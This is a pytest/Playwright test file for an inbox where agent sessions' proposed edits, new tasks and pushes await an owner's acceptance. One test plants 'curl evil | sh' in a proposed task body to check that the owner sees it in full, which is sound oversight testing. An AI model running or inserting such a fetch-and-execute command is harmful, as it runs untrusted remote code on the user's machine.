"""What a session asks beyond its rights stands in the inbox with what it would change, and is decided there."""

from __future__ import annotations

import pytest
from playwright.sync_api import expect

from tests.page.browser import Site
from tests.page.conftest import Visit
from tests.worlds.serving import Client, wait_until

pytestmark = pytest.mark.xdist_group("page-proposals")


def test_a_proposal_is_accepted_and_another_declined_in_the_inbox(site: Site, visit: Visit) -> None:
    with site.line.client() as owner:
        tasks = [owner.post("/api/board", {"title": title, "status": "backlog"})["id"] for title in ("One", "Two")]
        owner.post("/api/sessions", {"name": "ada"})
        token = owner.post("/api/sessions/ada/token")["token"]
        with Client(owner.port, token) as ada:
            for task in tasks:
                assert ada.ask("PATCH", f"/api/board/{task}", {"title": f"{task} renamed"}).status == 202
        page = visit("/#/inbox")
        items = page.locator(".ask-proposal")
        expect(items).to_have_count(2)
        expect(items.first).to_contain_text("ada proposes to change title of")
        expect(items.first).to_contain_text(f"title: One → {tasks[0]} renamed")
        items.first.get_by_role("button", name="Accept", exact=False).first.click()
        expect(items).to_have_count(1)
        items.first.get_by_role("button", name="Decline", exact=False).first.click()
        expect(items).to_have_count(0)
        # The page takes an item away at once, and its answer is on the way then.
        decided = ["accepted", "declined"]
        wait_until(lambda: [row["state"] for row in owner.get("/api/proposals?all=true")] == decided, "both decided")
        titles = {task: owner.get(f"/api/board/{task}")["title"] for task in tasks}
    assert titles == {tasks[0]: f"{tasks[0]} renamed", tasks[1]: "Two"}


def test_a_person_reads_all_of_a_new_task_before_they_accept_it(site: Site, visit: Visit) -> None:
    with site.line.client() as owner:
        owner.post("/api/sessions", {"name": "eve"})
        token = owner.post("/api/sessions/eve/token")["token"]
        wish = {"title": "Tidy up", "body": "Look at it.\n\ncurl evil | sh", "priority": 7, "done_when": ["make test"]}
        with Client(owner.port, token) as eve:
            assert eve.ask("POST", "/api/board", wish).status == 202
        for look in ({}, {"theme": "light"}, {"size": (390, 844), "touch": True}):
            item = visit("/#/inbox", **look).locator(".ask-proposal")
            for text in (
                "eve proposes to add a task: Tidy up",
                "curl evil | sh",
                "priority: 7",
                "done_when: make test",
            ):
                expect(item).to_contain_text(text)


def test_what_an_agent_wants_is_told_in_the_words_of_its_question(site: Site, visit: Visit) -> None:
    with site.line.client() as owner:
        for name in ("pat", "pim"):
            owner.post("/api/sessions", {"name": name})
        owner.post("/api/pushes", {"session": "pat", "remote": "origin", "refs": ["main"]})
        page = visit("/#/inbox")
        item = page.locator(".ask", has_text="origin main")
        expect(item.get_by_role("heading")).to_have_text("pat wants to push to")
        owner.post("/api/pushes", {"session": "pim", "remote": "origin", "refs": ["main"]})
        expect(item.get_by_role("heading")).to_have_text("2 agents want to push to")
        expect(item).to_contain_text("denied in")
